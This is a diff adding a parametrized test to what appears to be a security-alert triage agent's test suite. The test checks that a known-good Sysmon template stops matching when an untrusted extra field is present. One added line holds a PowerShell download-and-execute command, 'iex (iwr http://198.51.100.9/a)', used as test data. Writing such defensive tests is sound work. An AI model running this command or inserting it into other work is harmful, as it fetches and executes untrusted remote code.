@@ -10,7 +10,7 @@ from hypothesis import strategies as st
 from agent.intake import parse
 from agent.likelihood import counterfactual, likelihood, severity, weigh
 from agent.likelihood.known_good import total_match
-from agent.models import SEVERITIES, Alert, JsonObject
+from agent.models import SEVERITIES, Alert, AlertField, JsonObject, Provenance
 
 Maker = Callable[..., Alert]
 
@@ -220,6 +220,16 @@ def test_templates_match_from_end_to_end(name: str, changed: bool, make_sysmon: 
     """A file may be called anything; only the whole event equals the known one."""
     alert = make_sysmon("11", image=POWERSHELL, targetFilename=name)
     assert (total_match(alert) is None) is changed
+
+
+@pytest.mark.parametrize("name", ["message", "process.command_line", "registry.data"])
+def test_one_text_more_voids_a_template(name: str, make_sysmon: Maker) -> None:
+    """The template answers for the texts it names; what else the event says, nobody has looked at."""
+    path = "C:\\Users\\ann\\AppData\\Local\\Temp\\__PSScriptPolicyTest_ab12cd34.xyz.ps1"
+    alert = make_sysmon("11", image=POWERSHELL, targetFilename=path)
+    more = AlertField(name=name, value="iex (iwr http://198.51.100.9/a)", provenance=Provenance.UNTRUSTED, path="$.x")
+    assert total_match(alert) is not None
+    assert total_match(alert.model_copy(update={"fields": (*alert.fields, more)})) is None
 
 
 def test_a_template_needs_its_program_attested(make_sysmon: Maker) -> None:
